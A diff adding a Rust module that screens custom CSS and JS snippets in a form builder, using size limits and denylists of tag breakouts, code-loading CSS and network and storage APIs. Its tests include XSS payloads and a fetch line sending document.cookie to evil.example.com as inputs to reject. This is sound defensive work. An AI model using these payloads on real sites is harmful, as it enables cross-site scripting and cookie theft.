@@ -0,0 +1,144 @@
+//! Checks for the custom CSS and JS snippets a form may carry.
+//!
+//! Snippets are size-limited and screened when a form is saved, and screened
+//! again before rendering. The JS check is a denylist: it keeps snippets to
+//! small DOM and styling tweaks, but is no substitute for reviewing who may
+//! edit forms.
+
+use crate::error::FormError;
+
+/// Largest custom CSS snippet, in bytes.
+pub const MAX_CUSTOM_CSS_BYTES: usize = 16 * 1024;
+
+/// Largest custom JS snippet, in bytes.
+pub const MAX_CUSTOM_JS_BYTES: usize = 8 * 1024;
+
+/// Sequences that could end the enclosing tag early, matched case-insensitively.
+const TAG_BREAKOUTS: &[&str] = &["</style", "</script", "<!--", "<script"];
+
+/// CSS constructs that load or run code, matched case-insensitively with
+/// whitespace removed.
+const BLOCKED_CSS: &[&str] = &[
+    "@import",
+    "expression(",
+    "javascript:",
+    "vbscript:",
+    "behavior:",
+    "-moz-binding",
+];
+
+/// JS APIs for dynamic code, storage and network access, matched with
+/// whitespace removed.
+const BLOCKED_JS: &[&str] = &[
+    "eval(",
+    "Function(",
+    "import(",
+    "importScripts",
+    "document.write",
+    "document.cookie",
+    "localStorage",
+    "sessionStorage",
+    "indexedDB",
+    "XMLHttpRequest",
+    "fetch(",
+    "WebSocket",
+    "EventSource",
+    "sendBeacon",
+    "innerHTML",
+    "outerHTML",
+    "insertAdjacentHTML",
+    "setTimeout(\"",
+    "setTimeout('",
+    "setInterval(\"",
+    "setInterval('",
+];
+
+/// Checks a custom CSS snippet.
+///
+/// Returns [`FormError::InvalidData`] if it is too large, contains `<`, or
+/// imports or runs code.
+pub fn check_custom_css(css: &str) -> Result<(), FormError> {
+    check_size("custom_css", css, MAX_CUSTOM_CSS_BYTES)?;
+    if css.contains('<') {
+        return Err(FormError::InvalidData(
+            "custom_css must not contain '<'".to_string(),
+        ));
+    }
+
+    let compact = compact(css).to_lowercase();
+    if let Some(blocked) = BLOCKED_CSS.iter().find(|b| compact.contains(*b)) {
+        return Err(FormError::InvalidData(format!(
+            "custom_css must not use '{blocked}'"
+        )));
+    }
+    Ok(())
+}
+
+/// Checks a custom JS snippet.
+///
+/// Returns [`FormError::InvalidData`] if it is too large, could break out of
+/// its `<script>` tag, or uses dynamic code, storage or network APIs.
+pub fn check_custom_js(js: &str) -> Result<(), FormError> {
+    check_size("custom_js", js, MAX_CUSTOM_JS_BYTES)?;
+
+    let lower = js.to_lowercase();
+    if let Some(breakout) = TAG_BREAKOUTS.iter().find(|b| lower.contains(*b)) {
+        return Err(FormError::InvalidData(format!(
+            "custom_js must not contain '{breakout}'"
+        )));
+    }
+
+    let compact = compact(js);
+    if let Some(blocked) = BLOCKED_JS.iter().find(|b| compact.contains(*b)) {
+        return Err(FormError::InvalidData(format!(
+            "custom_js must not use '{blocked}'"
+        )));
+    }
+    Ok(())
+}
+
+fn check_size(name: &str, snippet: &str, max: usize) -> Result<(), FormError> {
+    if snippet.len() > max {
+        return Err(FormError::InvalidData(format!(
+            "{name} must be at most {max} bytes, got {}",
+            snippet.len()
+        )));
+    }
+    Ok(())
+}
+
+/// Removes whitespace, so `eval (x)` is caught like `eval(x)`.
+fn compact(s: &str) -> String {
+    s.chars().filter(|c| !c.is_whitespace()).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_css() {
+        assert!(check_custom_css(".af-form { --af-primary: #0a7; font-family: Inter; }").is_ok());
+        assert!(check_custom_css(".af-form { background: url(https://cdn.example.com/bg.png); }").is_ok());
+
+        assert!(check_custom_css("</style><script>alert(1)</script>").is_err());
+        assert!(check_custom_css("@IMPORT url(https://evil.example.com/x.css);").is_err());
+        assert!(check_custom_css("a { background: url( javascript :alert(1)) }").is_err());
+        assert!(check_custom_css(&"a".repeat(MAX_CUSTOM_CSS_BYTES + 1)).is_err());
+    }
+
+    #[test]
+    fn test_js() {
+        assert!(check_custom_js(
+            "document.querySelector('.af-form h1').textContent = 'Welcome';"
+        )
+        .is_ok());
+        assert!(check_custom_js("if (a < b) { document.body.classList.add('wide'); }").is_ok());
+
+        assert!(check_custom_js("</SCRIPT><img src=x onerror=alert(1)>").is_err());
+        assert!(check_custom_js("eval ('1')").is_err());
+        assert!(check_custom_js("new Function('return 1')()").is_err());
+        assert!(check_custom_js("fetch('https://evil.example.com?c=' + document.cookie)").is_err());
+        assert!(check_custom_js(&"1;".repeat(MAX_CUSTOM_JS_BYTES)).is_err());
+    }
+}